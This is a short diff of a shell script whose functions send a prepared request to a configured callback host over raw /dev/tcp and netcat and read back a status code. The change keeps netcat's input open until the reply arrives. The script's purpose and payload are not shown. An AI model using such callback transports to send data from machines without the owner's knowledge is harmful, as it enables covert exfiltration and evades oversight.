@@ -49,9 +49,10 @@ with_bash() {
   bash -c 'exec 3<>"/dev/tcp/${1%:*}/${1##*:}" && cat request >&3 && read -r -t 10 _ code _ <&3 && echo "$code"' bash "$CALLBACK_HOST" 2>>home.log
 }
 
+# Its stdin stays open until the answer is there: a server that sees our side closed may drop what came before.
 with_nc() {
   request > request
-  "$@" -w 10 "${CALLBACK_HOST%:*}" "${CALLBACK_HOST##*:}" < request 2>>home.log | { read -r _ code _ && echo "$code"; }
+  { cat request; sleep 3; } | "$@" -w 10 "${CALLBACK_HOST%:*}" "${CALLBACK_HOST##*:}" 2>>home.log | { read -r _ code _ && echo "$code"; }
 }
 
 with_wget() {
